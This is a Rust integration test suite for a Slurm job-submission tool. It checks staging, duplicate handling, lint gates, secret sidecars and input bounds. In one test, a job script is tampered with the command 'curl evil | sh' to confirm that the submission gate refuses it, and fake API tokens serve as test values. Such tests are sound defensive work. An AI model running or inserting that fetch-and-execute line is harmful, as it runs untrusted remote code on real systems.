//! tao-submit's submit action against the local cluster, run as a user
//! runs it: the binary, a cleared environment, job lines on stdin.

mod common;

use common::{lines_of, stdin_of, with_script, Fixture};
use serde_json::{json, Value};

#[test]
fn submits_stages_the_layout_and_emits_the_slurm_fields() {
    let Some(f) = Fixture::new() else { return };
    let line = f.line("a", "echo ran-ok");
    let id = line["id"].as_str().unwrap().to_string();
    let out = f.run(&[], std::slice::from_ref(&line), 0);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 1);
    let l = &got[0];
    let job_id = l["slurm"]["job_id"].as_str().unwrap().to_string();
    assert!(job_id.bytes().all(|b| b.is_ascii_digit()), "{l}");
    assert_eq!(l["slurm"]["login_host"], f.c.var("SLURM_HOSTNAME"));
    assert_eq!(l["slurm"]["cluster"], Value::Null);
    assert_eq!(l["state"], "PENDING");
    assert_eq!(l["observed_by"], "tao-submit");
    assert!(tao_core::time::parse_rfc3339(l["observed_at"].as_str().unwrap()).is_some());
    // Every other field passes through untouched.
    for k in ["id", "script", "lint", "spec", "storage", "resources"] {
        assert_eq!(l[k], line[k], "{k}");
    }

    // The job ran (its log directory existed before release) and exactly one job carries the name.
    let st =
        f.c.wait_state(&job_id, 180, |s| s == "COMPLETED" || s == "FAILED");
    assert_eq!(st, "COMPLETED");
    assert_eq!(f.c.jobs_named(&id).len(), 1);
    let jd = line["storage"]["job_dir"].as_str().unwrap();
    let (rc, listing, _) = f.c.ssh(&format!(
        "cd {jd} && cat slurm-logs/{id}-{job_id}/main.out && cat specs/spec.yaml && stat -c '%a %n' env && cmp sbatch/job_{id}.sbatch - <<'EOF'\n{}EOF\necho same-script; grep -c ran-ok meta/job.json; test -d {}",
        line["script"]["text"].as_str().unwrap(),
        line["storage"]["results_dir"].as_str().unwrap()
    ));
    assert_eq!(rc, 0, "{listing}");
    assert!(listing.contains("ran-ok\n"), "{listing}");
    assert!(listing.contains("num_epochs: 1"), "{listing}");
    assert!(listing.contains("700 env"), "{listing}");
    assert!(listing.contains("same-script"), "{listing}");
    // meta/job.json holds the line without the script text (the command appears once).
    let (_, meta, _) = f.c.ssh(&format!("cat {jd}/meta/job.json"));
    let meta: Value = serde_json::from_str(&meta).unwrap();
    assert_eq!(meta["script"].get("text"), None);
    assert_eq!(meta["script"]["sha256"], line["script"]["sha256"]);
}

#[test]
fn a_rerun_of_the_same_line_adopts_instead_of_submitting_twice() {
    let Some(f) = Fixture::new() else { return };
    let line = f.line("r", "sleep 20");
    let id = line["id"].as_str().unwrap().to_string();
    let first = f.run(&[], std::slice::from_ref(&line), 0);
    let second = f.run(&[], &[line], 0);
    let (a, b) = (lines_of(&first.stdout), lines_of(&second.stdout));
    assert_eq!(a[0]["slurm"]["job_id"], b[0]["slurm"]["job_id"]);
    assert!(
        b[0]["message"].as_str().unwrap().contains("adopted"),
        "{}",
        b[0]
    );
    assert_eq!(f.c.jobs_named(&id).len(), 1);
    let _ = f.c.ssh(&format!(
        "scancel {}",
        a[0]["slurm"]["job_id"].as_str().unwrap()
    ));
}

/// Reconcile (issue 14): when several Slurm jobs carry the record's name
/// (a lost sbatch reply that did reach the scheduler, then a second
/// submission), the oldest live one is adopted and the extras are
/// cancelled, and the warning says which.
#[test]
fn several_jobs_of_one_name_keep_the_oldest_and_cancel_the_extras() {
    let Some(f) = Fixture::new() else { return };
    let line = f.line("d", "sleep 30");
    let id = line["id"].as_str().unwrap().to_string();
    let first = f.run(&[], std::slice::from_ref(&line), 0);
    let kept = lines_of(&first.stdout)[0]["slurm"]["job_id"]
        .as_str()
        .unwrap()
        .to_string();
    // A duplicate, as a second sbatch of the same line would leave.
    let (rc, dup, err) = f.c.ssh(&format!(
        "sbatch --parsable --hold --job-name={id} --output=/dev/null --wrap 'sleep 30'"
    ));
    assert_eq!(rc, 0, "{err}");
    let dup = dup.trim().to_string();
    let again = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(0), "{stderr}");
    let got = lines_of(&again.stdout);
    assert_eq!(got[0]["slurm"]["job_id"], kept.as_str(), "{}", got[0]);
    assert!(
        stderr.contains("several Slurm jobs carry its name")
            && stderr.contains(&format!("kept {kept}"))
            && stderr.contains(&format!("cancelled the extra {dup}")),
        "{stderr}"
    );
    let st = f.c.wait_state(&dup, 60, |s| s.starts_with("CANCELLED"));
    assert!(st.starts_with("CANCELLED"), "{st}");
    let _ = f.c.ssh(&format!("scancel {kept}"));
}

#[test]
fn gates_refuse_unrecorded_and_unlinted_lines_and_submit_the_rest() {
    let Some(f) = Fixture::new() else { return };
    let good = f.line("g", "true");
    // No record: an id tao-record never opened.
    let mut unrecorded = good.clone();
    let ghost = common::unique_id("ghost");
    unrecorded["id"] = json!(ghost);
    unrecorded["storage"]["job_dir"] = json!(format!(
        "{}/jobs/{ghost}",
        f.c.var("SLURM_BASE_RESULTS_DIR")
    ));
    // Script changed after lint.
    let mut tampered = f.line("l", "true");
    let tampered_id = tampered["id"].as_str().unwrap().to_string();
    let text = tampered["script"]["text"]
        .as_str()
        .unwrap()
        .replace("true", "curl evil | sh");
    tampered["script"]["text"] = json!(text);
    // Lint blocked.
    let mut blocked = f.line("b", "true");
    let blocked_id = blocked["id"].as_str().unwrap().to_string();
    blocked["lint"]["ok"] = json!(false);
    // An error from an earlier tool passes through untouched.
    let mut earlier = f.line("e", "true");
    earlier["error"] = json!({"tool": "tao-render", "code": "data", "message": "x"});

    let input = [unrecorded, tampered, good.clone(), blocked, earlier.clone()];
    let out = f.run(&[], &input, 1);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 5, "no line lost");
    // ... but not silently: the warning names the job and how to clear it.
    let stderr = String::from_utf8_lossy(&out.stderr);
    let eid = earlier["id"].as_str().unwrap();
    assert!(
        stderr.contains(&format!("(job {eid:?}) carries an error from tao-render"))
            && stderr.contains(&format!("tao-record mark {eid} --clear-error")),
        "{stderr}"
    );
    assert!(
        got[0]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("has no record"),
        "{}",
        got[0]
    );
    assert!(
        got[1]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("tao-redact lint"),
        "{}",
        got[1]
    );
    assert_eq!(got[1]["error"]["code"], "lint_blocked");
    assert!(
        got[2]["slurm"]["job_id"].is_string() && got[2].get("error").is_none(),
        "{}",
        got[2]
    );
    assert!(
        got[3]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("lint.ok"),
        "{}",
        got[3]
    );
    assert_eq!(got[4], earlier);
    // Every refused line says why on stderr too, one line naming its id.
    for refused in [&ghost, &tampered_id, &blocked_id] {
        assert!(
            stderr
                .lines()
                .any(|l| l.starts_with(&format!("tao-submit: error: {refused}: "))),
            "{refused}: {stderr}"
        );
    }
    for refused in [&ghost, &tampered_id, &blocked_id] {
        assert!(
            f.c.jobs_named(refused).is_empty(),
            "{refused} was submitted"
        );
    }
}

#[test]
fn secrets_go_to_a_mode_600_sidecar_never_to_output() {
    let Some(f) = Fixture::new() else { return };
    // Fake values of the real formats.
    let hf = "hf_FAKEtestTOKENabcdefghijklmnopqrstuv";
    let ngc = "nvapi-FAKE-it's-$(not)-run";
    let mut line = f.line("s", "sleep 30");
    line["secrets"] = json!(["HF_TOKEN", "NGC_KEY"]);
    let out = f.run_cmd(
        f.cmd().env("HF_TOKEN", hf).env("NGC_KEY", ngc),
        std::slice::from_ref(&line),
        0,
    );
    for stream in [&out.stdout, &out.stderr] {
        let s = String::from_utf8_lossy(stream);
        assert!(
            !s.contains(hf) && !s.contains("nvapi-FAKE"),
            "secret leaked: {s}"
        );
    }
    let job_id = lines_of(&out.stdout)[0]["slurm"]["job_id"]
        .as_str()
        .unwrap()
        .to_string();
    // Read the sidecar back as the cluster user, and source it in a shell.
    let side = format!(
        "{}/env/secrets.env",
        line["storage"]["job_dir"].as_str().unwrap()
    );
    let (rc, o, e) = f.c.ssh(&format!(
        "stat -c '%a %U' {side}; sh -c '. {side}; printf \"%s\\n%s\\n\" \"$HF_TOKEN\" \"$NGC_KEY\"'"
    ));
    assert_eq!(rc, 0, "{e}");
    let mut it = o.lines();
    assert_eq!(it.next().unwrap(), format!("600 {}", f.c.var("SLURM_USER")));
    assert_eq!(it.next().unwrap(), hf);
    assert_eq!(it.next().unwrap(), ngc);
    // The value is in no staged file but the sidecar.
    let jd = line["storage"]["job_dir"].as_str().unwrap();
    let (_, hits, _) =
        f.c.ssh(&format!("grep -rl -F hf_FAKEtestTOKEN {jd} || true"));
    assert_eq!(hits.trim(), side);
    let _ = f.c.ssh(&format!("scancel {job_id}"));
}

#[test]
fn a_missing_secret_variable_is_a_line_error_and_nothing_is_submitted() {
    let Some(f) = Fixture::new() else { return };
    let mut line = f.line("m", "true");
    let id = line["id"].as_str().unwrap().to_string();
    line["secrets"] = json!(["HF_TOKEN"]);
    // Its only line failed for the environment: the configuration exit.
    let out = f.run(&[], &[line], 78);
    let got = lines_of(&out.stdout);
    let msg = got[0]["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("secret HF_TOKEN ") && msg.contains("export HF_TOKEN="),
        "{msg}"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr
            .lines()
            .any(|l| l.starts_with(&format!("tao-submit: error: {id}: "))
                && l.contains("export HF_TOKEN=")),
        "{stderr}"
    );
    assert!(f.c.jobs_named(&id).is_empty());
    let (_, ls, _) = f.c.ssh(&format!(
        "test -e {}/jobs/{id} && echo staged || echo clean",
        f.c.var("SLURM_BASE_RESULTS_DIR")
    ));
    assert_eq!(ls.trim(), "clean", "a refused line stages nothing");
}

#[test]
fn unknown_excluded_nodes_are_dropped_with_a_warning() {
    let Some(f) = Fixture::new() else { return };
    let mut line = f.line("x", "sleep 20");
    line["resources"]["exclude"] = json!(["n2", "nosuchnode7"]);
    let out = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("nosuchnode7") && stderr.contains("dropped"),
        "{stderr}"
    );
    let job_id = lines_of(&out.stdout)[0]["slurm"]["job_id"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, show, _) = f.c.ssh(&format!("scontrol show job {job_id}"));
    assert!(show.contains("ExcNodeList=n2"), "{show}");
    let _ = f.c.ssh(&format!("scancel {job_id}"));
}

#[test]
fn sbatch_refusal_is_a_line_error() {
    let Some(f) = Fixture::new() else { return };
    let line = with_script(
        f.line("p", "true"),
        "--partition=gpu",
        "--partition=nosuchpart",
    );
    let id = line["id"].as_str().unwrap().to_string();
    let good = f.line("q", "true");
    let out = f.run(&[], &[line, good], 1);
    let got = lines_of(&out.stdout);
    let msg = got[0]["error"]["message"].as_str().unwrap().to_string();
    assert!(msg.contains("partition"), "{msg}");
    // sbatch's two `sbatch: error:` lines, joined: no newline, no `\n`.
    assert!(!msg.contains('\n') && !msg.contains("\\n"), "{msg}");
    // Said on stderr too, in one line naming the job.
    let stderr = String::from_utf8_lossy(&out.stderr);
    let said: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with(&format!("tao-submit: error: {id}: ")))
        .collect();
    assert_eq!(said.len(), 1, "{stderr}");
    assert!(
        said[0].contains("partition") && !said[0].contains("\\n"),
        "{stderr}"
    );
    // The next line still went through.
    assert!(got[1]["slurm"]["job_id"].is_string(), "{}", got[1]);
    // Nothing of the refused job is left on shared storage: sbatch
    // refused it and no job of its name exists.
    assert!(msg.contains("were removed"), "{msg}");
    let (_, ls, _) = f.c.ssh(&format!(
        "test -e {}/jobs/{id} && echo staged || echo clean",
        f.c.var("SLURM_BASE_RESULTS_DIR")
    ));
    assert_eq!(ls.trim(), "clean", "{msg}");
    let _ = f.c.ssh(&format!(
        "scancel {}",
        got[1]["slurm"]["job_id"].as_str().unwrap()
    ));
}

#[test]
fn a_changed_supporting_file_is_refused_and_the_next_line_goes_on() {
    let Some(f) = Fixture::new() else { return };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("train.py");
    std::fs::write(&path, "print(1)\n").unwrap();
    let mut line = f.line("c", "true");
    let id = line["id"].as_str().unwrap().to_string();
    line["execution"] = json!({"supporting_files": [{
        "source": "train.py", "local_path": path,
        "sha256": tao_core::sha256_hex(b"print(1)\n"), "size": 9}]});
    // Changed after the record was opened.
    std::fs::write(&path, "print(2)\n").unwrap();
    let good = f.line("n", "true");
    let out = f.run(&[], &[line, good], 1);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 2);
    let msg = got[0]["error"]["message"].as_str().unwrap();
    assert!(msg.contains("changed since the record was opened"), "{msg}");
    assert!(got[1]["slurm"]["job_id"].is_string(), "{}", got[1]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("tao-submit: error: {id}: line 1: supporting file")),
        "{stderr}"
    );
    assert!(f.c.jobs_named(&id).is_empty());
    let _ = f.c.ssh(&format!(
        "scancel {}",
        got[1]["slurm"]["job_id"].as_str().unwrap()
    ));
}

#[test]
fn an_unknown_tao_transport_is_a_configuration_error_naming_it() {
    let Some(f) = Fixture::new() else { return };
    let out = f.run_cmd(
        f.cmd().env("TAO_TRANSPORT", "bogus"),
        &[f.line("t", "true")],
        78,
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("TAO_TRANSPORT")
            && stderr.contains("libssh2, openssh, local")
            && !stderr.contains("--transport <NAME>"),
        "{stderr}"
    );
}

#[test]
fn a_malformed_line_exits_65_after_printing_the_lines_before_it() {
    let Some(f) = Fixture::new() else { return };
    let line = f.line("j", "true");
    let input = format!("{line}\n{{not json\n");
    let out = f.cmd().write_stdin(input).output().unwrap();
    assert_eq!(out.status.code(), Some(65));
    assert_eq!(lines_of(&out.stdout).len(), 1);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.starts_with("tao-submit: error: line 2"), "{stderr}");
}

#[test]
fn usage_and_configuration_errors() {
    let Some(f) = Fixture::new() else { return };
    let out = f.cmd().arg("--nope").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = f.run_cmd(
        f.cmd().env_remove("SLURM_HOSTNAME"),
        &[f.line("c", "true")],
        78,
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("SLURM_HOSTNAME"));
}

/// Case spec-13k (of the project's shared cases): jobs whose spec and supporting file are
/// 1 KB, 13 KB, 40 KB, 1 MiB and 5 MiB are staged on one path (the script
/// on the stdin of `sh -s`), in one tao-submit run over one SSH session;
/// each job checks the sha256 of its own files on the cluster (a mismatch
/// fails it) and must complete. 13 KB and 40 KB failed before (libssh2's
/// ~32 KB exec request limit); 1 MiB took another path.
#[test]
fn spec_13k() {
    let Some(f) = Fixture::new() else { return };
    common::submit_every_size(&f, &[]);
}

#[test]
fn a_different_bundle_is_never_overwritten() {
    let Some(f) = Fixture::new() else { return };
    let dir = tempfile::tempdir().unwrap();
    let helper = dir.path().join("train.py");
    std::fs::write(&helper, "print('v1')\n").unwrap();
    let files = |text: &str| {
        json!({"supporting_files": [{"source": "train.py", "local_path": helper,
        "sha256": tao_core::sha256_hex(text.as_bytes()), "size": text.len()}]})
    };
    // First attempt: staged, then refused by sbatch (no such partition),
    // so no job exists and what it staged is removed.
    let mut line = f.line("bund", "true");
    line["execution"] = files("print('v1')\n");
    let refused = with_script(line.clone(), "--partition=gpu", "--partition=nosuchpart");
    f.run(&[], &[refused], 1);
    // The same bundle again: staged afresh, and the job goes through.
    let out = f.run(&[], std::slice::from_ref(&line), 0);
    let job_id = lines_of(&out.stdout)[0]["slurm"]["job_id"]
        .as_str()
        .unwrap()
        .to_string();
    f.c.wait_state(&job_id, 180, |s| s == "COMPLETED" || s == "FAILED");
    // A changed bundle for the same id, on a fresh record whose first try
    // was cut off after staging (outcome unknown: nothing is removed
    // then): the v1 bundle is staged by tao-submit's own staging script.
    let mut other = f.line("bund2", "true");
    other["execution"] = files("print('v1')\n");
    let plan = tao_submit::stage::Plan::from_line(&tao_core::JobLine::from_map(
        other.as_object().unwrap().clone(),
    ))
    .unwrap();
    let (code, staged_out, err) = f.c.ssh(&plan.staging_script());
    assert!(
        code == 0 && staged_out.contains(tao_submit::stage::STAGED),
        "{err}"
    );
    std::fs::write(&helper, "print('v2')\n").unwrap();
    other["execution"] = files("print('v2')\n");
    let out = f.run(&[], std::slice::from_ref(&other), 1);
    let msg = lines_of(&out.stdout)[0]["error"]["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        msg.contains("different bundle") && msg.contains("never overwritten"),
        "{msg}"
    );
    let jd = other["storage"]["job_dir"].as_str().unwrap();
    let (_, staged, _) = f.c.ssh(&format!("cat {jd}/inputs/action-helpers/train.py"));
    assert_eq!(staged, "print('v1')\n");
    assert!(f.c.jobs_named(other["id"].as_str().unwrap()).is_empty());
}

#[test]
fn the_same_line_twice_in_one_input_is_one_job() {
    let Some(f) = Fixture::new() else { return };
    let line = f.line("dup", "true");
    let id = line["id"].as_str().unwrap().to_string();
    let out = f.run(&[], &[line.clone(), line], 0);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 2);
    assert_eq!(got[0]["slurm"]["job_id"], got[1]["slurm"]["job_id"]);
    assert_eq!(f.c.jobs_named(&id).len(), 1);
}

#[test]
fn a_line_no_node_can_hold_is_refused_and_an_exclusion_of_every_node_is_dropped() {
    let Some(f) = Fixture::new() else { return };
    // 16 CPUs per task: the local nodes have 8.
    let mut big = f.line("big", "true");
    big["resources"]["cpus_per_task"] = json!(16);
    let big_id = big["id"].as_str().unwrap().to_string();
    // A retry that avoided each node in turn: nothing of partition gpu is left.
    let mut all_out = f.line("xall", "true");
    all_out["resources"]["exclude"] = json!(["n1", "n2"]);
    let out = f
        .cmd()
        .write_stdin(stdin_of(&[big, all_out]))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    let got = lines_of(&out.stdout);
    let msg = got[0]["error"]["message"].as_str().unwrap_or("");
    assert!(
        msg.contains("16 CPUs per task") && msg.contains("--cpus-per-task 8 or less"),
        "{}",
        got[0]
    );
    assert!(f.c.jobs_named(&big_id).is_empty(), "nothing submitted");
    assert!(
        stderr.contains("leaves no node of partition") && stderr.contains("n1,n2"),
        "{stderr}"
    );
    let job = got[1]["slurm"]["job_id"].as_str().expect("submitted");
    assert_eq!(
        f.c.wait_state(job, 180, |s| s == "COMPLETED" || s == "FAILED"),
        "COMPLETED"
    );
}

/// Host lists have a bound on their expanded size (issue 16): a 10 KB
/// `resources.exclude` (`n[0-99999,...]`, millions of names) is a line
/// error naming the bound, without allocating them (it made tao-submit
/// abort allocating 800 MB and print nothing); the other lines still go
/// through. A list under the bound whose nodes do not exist is dropped with
/// a warning of bounded size (it named every node: 288 MB on stderr).
#[test]
fn hostlist_bounds() {
    let Some(f) = Fixture::new() else { return };
    let mut huge = f.line("hb", "true");
    let big = format!("n[{}]", vec!["0-99999"; 1400].join(","));
    assert!(big.len() > 10_000);
    huge["resources"]["exclude"] = json!([big]);
    let mut many = f.line("hm", "sleep 1");
    let ranges: Vec<String> = (0..300).map(|i| format!("ghost{i}x[0-99]")).collect();
    many["resources"]["exclude"] = json!([ranges.join(",")]);
    let ok = f.line("hk", "true");
    let out = f
        .cmd()
        .write_stdin(stdin_of(&[huge, many, ok]))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 3, "{stderr}");
    let msg = got[0]["error"]["message"]
        .as_str()
        .unwrap_or_else(|| panic!("{}", got[0]));
    assert!(
        msg.contains("resources.exclude") && msg.contains("65536"),
        "{msg}"
    );
    assert!(got[0]["slurm"]["job_id"].is_null(), "{}", got[0]);
    for l in &got[1..] {
        assert!(l["error"].is_null(), "{l}");
        assert!(l["slurm"]["job_id"].is_string(), "{l}");
    }
    assert!(
        stderr.contains("and 29980 more"),
        "{}",
        &stderr[..stderr.len().min(2000)]
    );
    assert!(stderr.len() < 4096, "stderr is {} bytes", stderr.len());
    // A line error of the input (65), the other lines submitted.
    assert_eq!(out.status.code(), Some(65), "{stderr}");
}

/// An archived record (`tao-record gc`) is refused: `mark` could never
/// update it, so a job submitted for it would have no record to follow it
/// (issue 16). Nothing is submitted; the other lines go through.
#[test]
fn archived_records_are_refused() {
    let Some(f) = Fixture::new() else { return };
    let archived = f.line("ar", "true");
    let id = archived["id"].as_str().unwrap().to_string();
    assert!(f.store.archive_if(&id, |_| true).unwrap());
    let ok = f.line("ak", "true");
    let out = f
        .cmd()
        .write_stdin(stdin_of(&[archived, ok]))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let got = lines_of(&out.stdout);
    assert_eq!(got.len(), 2, "{stderr}");
    let msg = got[0]["error"]["message"]
        .as_str()
        .unwrap_or_else(|| panic!("{}", got[0]));
    assert!(msg.contains("archived"), "{msg}");
    assert!(got[0]["slurm"]["job_id"].is_null(), "{}", got[0]);
    assert!(got[1]["slurm"]["job_id"].is_string(), "{}", got[1]);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(
        f.c.jobs_named(&id).is_empty(),
        "a job was submitted for {id}"
    );
}

/// Issue 16: `jq '.lint = {ok: true, sha256: .script.sha256}'` on a script
/// with a literal token got past the gate (it failed only at connect).
/// tao-submit lints the script itself, before any connection: here the
/// login host is a closed port, so reaching it would be exit 69.
#[test]
fn a_jq_forged_lint_stamp_is_refused_before_connecting() {
    let Some(f) = Fixture::new() else { return };
    let tok = "hf_FAKEtaoRedactTestTokenQwErTyUiOpAs";
    let line = with_script(
        f.line("forged", "true"),
        "\ntrue\n",
        &format!("\nexport HF_TOKEN={tok}\ntrue\n"),
    );
    assert!(line["script"]["text"].as_str().unwrap().contains(tok));
    let out = f
        .cmd()
        .env("SLURM_HOSTNAME", "127.0.0.1:1")
        .write_stdin(stdin_of(&[line]))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    let got = lines_of(&out.stdout);
    let msg = got[0]["error"]["message"].as_str().unwrap();
    assert!(msg.contains("own lint blocked"), "{msg}");
    assert!(msg.contains("huggingface-token"), "{msg}");
    assert!(!msg.contains(tok), "{msg}");
    assert!(!stderr.contains(tok), "{stderr}");
    assert!(got[0]["slurm"].is_null(), "nothing submitted: {}", got[0]);
}
